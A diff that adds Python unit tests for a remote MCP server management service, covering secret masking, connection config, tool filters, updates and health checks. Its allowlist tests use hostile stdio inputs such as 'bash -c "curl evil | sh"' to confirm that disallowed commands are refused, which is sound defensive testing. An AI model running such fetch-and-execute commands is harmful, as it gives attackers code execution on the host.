@@ -11,8 +11,16 @@ with patch('backend.database.client.MinioClient', MagicMock()):
         mcp_server_health,
         add_remote_mcp_server_list,
         delete_remote_mcp_server_list,
-        get_remote_mcp_server_list
+        get_remote_mcp_server_list,
+        build_mcp_server_config,
+        build_mcp_server_parameters,
+        is_mcp_tool_exposed,
+        update_remote_mcp_server,
+        check_remote_mcp_server_health,
+        get_mcp_server_usage
     )
+from backend.consts.model import McpServerConfigRequest, McpServerUpdateRequest
+from mcp import StdioServerParameters
 
 class TestMcpServerHealth(unittest.IsolatedAsyncioTestCase):
     """测试 mcp_server_health"""
@@ -103,6 +111,33 @@ class TestAddRemoteMcpServerList(unittest.IsolatedAsyncioTestCase):
         self.assertEqual(resp.status_code, 200)
         self.assertIn(b'Successfully added', resp.body)
 
+    @patch('backend.services.remote_mcp_service.create_mcp_record')
+    @patch('backend.services.remote_mcp_service.mcp_server_health')
+    @patch('backend.services.remote_mcp_service.check_mcp_name_exists')
+    async def test_add_name_already_used(self, mock_name_exists, mock_health, mock_create):
+        """测试名称已被使用时返回 409"""
+        mock_name_exists.return_value = True
+        resp = await add_remote_mcp_server_list('tid', 'uid', 'http://srv', 'name')
+        self.assertEqual(resp.status_code, 409)
+        mock_health.assert_not_called()
+        mock_create.assert_not_called()
+
+    @patch('backend.services.remote_mcp_service.create_mcp_record')
+    @patch('backend.services.remote_mcp_service.mcp_server_health')
+    @patch('backend.services.remote_mcp_service.check_mcp_name_exists')
+    async def test_add_with_server_config(self, mock_name_exists, mock_health, mock_create):
+        """测试使用连接配置添加服务器"""
+        mock_name_exists.return_value = False
+        mock_health.return_value = JSONResponse(status_code=200, content={"message": "mock"})
+        mock_create.return_value = True
+        server_config = {"mcp_server": "http://srv", "transport": "streamable_http", "headers": {"X-Key": "k"}}
+        resp = await add_remote_mcp_server_list('tid', 'uid', 'http://srv', 'name', server_config)
+        self.assertEqual(resp.status_code, 200)
+        mock_health.assert_called_once_with(remote_mcp_server='http://srv', server_config=server_config)
+        mcp_data = mock_create.call_args.kwargs["mcp_data"]
+        self.assertEqual((mcp_data["transport"], mcp_data["mcp_name"], mcp_data["status"]),
+                         ("streamable_http", "name", True))
+
     @patch('backend.services.remote_mcp_service.create_mcp_record')
     @patch('backend.services.remote_mcp_service.mcp_server_health')
     async def test_add_with_long_url(self, mock_health, mock_create):
@@ -158,6 +193,19 @@ class TestGetRemoteMcpServerList(unittest.IsolatedAsyncioTestCase):
         self.assertEqual(result[0]["remote_mcp_server_name"], "n1")
         self.assertEqual(result[1]["status"], False)
 
+    @patch('backend.services.remote_mcp_service.get_mcp_records_by_tenant')
+    async def test_get_list_hides_secrets(self, mock_get):
+        """测试列表只返回密钥的名称"""
+        mock_get.return_value = [
+            {"mcp_name": "n1", "mcp_server": "u1", "status": True, "transport": "streamable_http",
+             "headers": {"X-Key": "secret"}, "bearer_token": "secret-token", "timeout": 12}
+        ]
+        result = await get_remote_mcp_server_list('tid')
+        self.assertEqual(result[0]["header_keys"], ["X-Key"])
+        self.assertTrue(result[0]["has_bearer_token"])
+        self.assertEqual(result[0]["tool_filter"], {"mode": "all", "tools": []})
+        self.assertNotIn("secret", str(result))
+
     @patch('backend.services.remote_mcp_service.get_mcp_records_by_tenant')
     async def test_get_empty(self, mock_get):
         mock_get.return_value = []
@@ -202,6 +250,183 @@ class TestGetRemoteMcpServerList(unittest.IsolatedAsyncioTestCase):
         self.assertEqual(result[0]["remote_mcp_server_name"], "test-server_123")
         self.assertEqual(result[0]["remote_mcp_server"], "http://test-server.com:8080")
 
+class TestMcpServerConfig(unittest.TestCase):
+    """测试连接配置的构建"""
+    def test_secrets_kept_removed_or_replaced(self):
+        saved = {"headers": {"X-Key": "saved", "X-Old": "old"}, "bearer_token": "saved-token"}
+        request = McpServerConfigRequest(service_name="name", mcp_url=" http://srv ",
+                                         headers={"X-Key": None, "X-New": "new"}, bearer_token=None)
+        config = build_mcp_server_config(request, saved)
+        self.assertEqual(config["mcp_server"], "http://srv")
+        self.assertEqual(config["headers"], {"X-Key": "saved", "X-New": "new"})
+        self.assertEqual(config["bearer_token"], "saved-token")
+
+        request.bearer_token = ""
+        self.assertIsNone(build_mcp_server_config(request, saved)["bearer_token"])
+
+    @patch('backend.services.remote_mcp_service.MCP_STDIO_ALLOWED_COMMANDS', ["npx"])
+    def test_stdio_config(self):
+        request = McpServerConfigRequest(service_name="name", transport="stdio", command="npx",
+                                         args=["-y", "server"], env={"API_KEY": "k"}, mcp_url="http://ignored")
+        config = build_mcp_server_config(request)
+        self.assertEqual((config["mcp_server"], config["command"], config["env"]), ("", "npx", {"API_KEY": "k"}))
+
+        with self.assertRaises(ValueError):
+            build_mcp_server_config(McpServerConfigRequest(service_name="name", transport="stdio"))
+        with self.assertRaises(ValueError):
+            build_mcp_server_config(McpServerConfigRequest(service_name="name", transport="sse"))
+
+    @patch('backend.services.remote_mcp_service.MCP_STDIO_ALLOWED_COMMANDS', ["npx"])
+    def test_stdio_command_not_allowed(self):
+        request = McpServerConfigRequest(service_name="name", transport="stdio", command="bash",
+                                         args=["-c", "curl evil | sh"])
+        with self.assertRaises(PermissionError):
+            build_mcp_server_config(request)
+        # 已保存的记录在命令不再允许后也不会启动
+        with self.assertRaises(PermissionError):
+            build_mcp_server_parameters({"transport": "stdio", "command": "bash", "args": []})
+
+    @patch('backend.services.remote_mcp_service.MCP_STDIO_ALLOWED_COMMANDS', [])
+    def test_stdio_refused_by_default(self):
+        request = McpServerConfigRequest(service_name="name", transport="stdio", command="npx")
+        with self.assertRaises(PermissionError):
+            build_mcp_server_config(request)
+
+    @patch('backend.services.remote_mcp_service.MCP_STDIO_ALLOWED_COMMANDS', ["npx"])
+    def test_server_parameters(self):
+        parameters = build_mcp_server_parameters({"mcp_server": "http://srv", "transport": "streamable_http",
+                                                  "headers": {"X-Key": "k"}, "bearer_token": "t", "timeout": 12})
+        self.assertEqual(parameters, {"url": "http://srv", "headers": {"X-Key": "k", "Authorization": "Bearer t"},
+                                      "timeout": 12, "transport": "streamable-http"})
+
+        # 旧记录只有地址
+        self.assertEqual(build_mcp_server_parameters({"mcp_server": "http://srv"}),
+                         {"url": "http://srv", "headers": {}, "timeout": 30})
+
+        parameters = build_mcp_server_parameters({"transport": "stdio", "command": "npx", "args": ["server"]})
+        self.assertIsInstance(parameters, StdioServerParameters)
+        self.assertEqual(parameters.args, ["server"])
+
+    def test_tool_filter(self):
+        self.assertTrue(is_mcp_tool_exposed(None, "search"))
+        self.assertTrue(is_mcp_tool_exposed({"mode": "allow", "tools": ["search"]}, "search"))
+        self.assertFalse(is_mcp_tool_exposed({"mode": "allow", "tools": ["search"]}, "delete"))
+        self.assertFalse(is_mcp_tool_exposed({"mode": "deny", "tools": ["delete"]}, "delete"))
+
+
+class TestUpdateRemoteMcpServer(unittest.IsolatedAsyncioTestCase):
+    """测试 update_remote_mcp_server"""
+    def setUp(self):
+        self.saved = {"mcp_id": 3, "mcp_name": "old", "mcp_server": "http://srv", "headers": {"X-Key": "saved"}}
+
+    @patch('backend.services.remote_mcp_service.get_mcp_record_by_name')
+    async def test_update_not_found(self, mock_get_record):
+        mock_get_record.return_value = None
+        request = McpServerUpdateRequest(original_service_name="old", service_name="old", mcp_url="http://srv")
+        resp = await update_remote_mcp_server('tid', 'uid', request)
+        self.assertEqual(resp.status_code, 404)
+
+    @patch('backend.services.remote_mcp_service.check_mcp_name_exists')
+    @patch('backend.services.remote_mcp_service.get_mcp_record_by_name')
+    async def test_update_name_already_used(self, mock_get_record, mock_name_exists):
+        mock_get_record.return_value = self.saved
+        mock_name_exists.return_value = True
+        request = McpServerUpdateRequest(original_service_name="old", service_name="taken", mcp_url="http://srv")
+        resp = await update_remote_mcp_server('tid', 'uid', request)
+        self.assertEqual(resp.status_code, 409)
+
+    @patch('backend.services.remote_mcp_service.update_mcp_record_by_id')
+    @patch('backend.services.remote_mcp_service.mcp_server_health')
+    @patch('backend.services.remote_mcp_service.check_mcp_name_exists')
+    @patch('backend.services.remote_mcp_service.get_mcp_record_by_name')
+    async def test_update_renames_and_keeps_secrets(self, mock_get_record, mock_name_exists, mock_health, mock_update):
+        mock_get_record.return_value = self.saved
+        mock_name_exists.return_value = False
+        mock_health.return_value = JSONResponse(status_code=200, content={"message": "mock"})
+        mock_update.return_value = True
+        request = McpServerUpdateRequest(original_service_name="old", service_name="new", mcp_url="http://srv",
+                                         headers={"X-Key": None}, timeout=10)
+
+        resp = await update_remote_mcp_server('tid', 'uid', request)
+
+        self.assertEqual(resp.status_code, 200)
+        mcp_data = mock_update.call_args.kwargs["mcp_data"]
+        self.assertEqual(mock_update.call_args.kwargs["mcp_id"], 3)
+        self.assertEqual((mcp_data["mcp_name"], mcp_data["headers"], mcp_data["timeout"]),
+                         ("new", {"X-Key": "saved"}, 10))
+
+    @patch('backend.services.remote_mcp_service.update_mcp_record_by_id')
+    @patch('backend.services.remote_mcp_service.mcp_server_health')
+    @patch('backend.services.remote_mcp_service.get_mcp_record_by_name')
+    async def test_update_unreachable(self, mock_get_record, mock_health, mock_update):
+        mock_get_record.return_value = self.saved
+        mock_health.return_value = JSONResponse(status_code=503, content={"message": "mock"})
+        request = McpServerUpdateRequest(original_service_name="old", service_name="old", mcp_url="http://srv")
+        resp = await update_remote_mcp_server('tid', 'uid', request)
+        self.assertEqual(resp.status_code, 503)
+        mock_update.assert_not_called()
+
+    @patch('backend.services.remote_mcp_service.MCP_STDIO_ALLOWED_COMMANDS', [])
+    @patch('backend.services.remote_mcp_service.update_mcp_record_by_id')
+    @patch('backend.services.remote_mcp_service.mcp_server_health')
+    @patch('backend.services.remote_mcp_service.get_mcp_record_by_name')
+    async def test_update_stdio_command_refused(self, mock_get_record, mock_health, mock_update):
+        mock_get_record.return_value = self.saved
+        request = McpServerUpdateRequest(original_service_name="old", service_name="old", transport="stdio",
+                                         command="bash", args=["-c", "id"])
+        resp = await update_remote_mcp_server('tid', 'uid', request)
+        self.assertEqual(resp.status_code, 403)
+        mock_health.assert_not_called()
+        mock_update.assert_not_called()
+
+
+class TestCheckRemoteMcpServerHealth(unittest.IsolatedAsyncioTestCase):
+    """测试 check_remote_mcp_server_health"""
+    @patch('backend.services.remote_mcp_service.add_mcp_error')
+    @patch('backend.services.remote_mcp_service.update_mcp_status_by_name_and_url')
+    @patch('backend.services.remote_mcp_service.mcp_server_health')
+    @patch('backend.services.remote_mcp_service.get_mcp_record_by_name')
+    async def test_failure_is_logged(self, mock_get_record, mock_health, mock_update_status, mock_add_error):
+        mock_get_record.return_value = {"mcp_name": "name", "bearer_token": "t"}
+        mock_health.return_value = JSONResponse(status_code=400, content={"message": "Failed", "detail": "401 Unauthorized",
+                                                                          "status": "error"})
+        mock_add_error.return_value = [{"time": "2026-10-19 10:00:00", "message": "401 Unauthorized"}]
+
+        resp = await check_remote_mcp_server_health('tid', 'uid', 'http://srv', 'name')
+
+        self.assertEqual(resp.status_code, 400)
+        self.assertIn(b'"recent_errors":[{"time":"2026-10-19 10:00:00","message":"401 Unauthorized"}]', resp.body)
+        self.assertEqual(mock_add_error.call_args[0][2]["message"], "401 Unauthorized")
+        self.assertFalse(mock_update_status.call_args.kwargs["status"])
+        mock_health.assert_called_once_with(remote_mcp_server='http://srv', server_config=mock_get_record.return_value)
+
+    @patch('backend.services.remote_mcp_service.add_mcp_error')
+    @patch('backend.services.remote_mcp_service.update_mcp_status_by_name_and_url')
+    @patch('backend.services.remote_mcp_service.mcp_server_health')
+    @patch('backend.services.remote_mcp_service.get_mcp_record_by_name')
+    async def test_success_returns_recent_errors(self, mock_get_record, mock_health, mock_update_status, mock_add_error):
+        recent_errors = [{"time": "2026-10-19 10:00:00", "message": "timeout"}]
+        mock_get_record.return_value = {"mcp_name": "name", "recent_errors": recent_errors}
+        mock_health.return_value = JSONResponse(status_code=200, content={"message": "ok", "status": "success"})
+
+        resp = await check_remote_mcp_server_health('tid', 'uid', 'http://srv', 'name')
+
+        self.assertEqual(resp.status_code, 200)
+        self.assertIn(b'"message":"timeout"', resp.body)
+        mock_add_error.assert_not_called()
+
+
+class TestGetMcpServerUsage(unittest.TestCase):
+    """测试 get_mcp_server_usage"""
+    @patch('backend.services.remote_mcp_service.query_agents_using_mcp_server')
+    def test_usage_falls_back_to_name(self, mock_query):
+        mock_query.return_value = [{"agent_id": 1, "name": "writer", "display_name": "Writer"},
+                                   {"agent_id": 2, "name": "reader", "display_name": None}]
+        agents = get_mcp_server_usage('tenant', 'docs')
+        mock_query.assert_called_once_with(mcp_name='docs', tenant_id='tenant')
+        self.assertEqual([agent["display_name"] for agent in agents], ["Writer", "reader"])
+
+
 class TestIntegrationScenarios(unittest.IsolatedAsyncioTestCase):
     """集成测试场景"""
     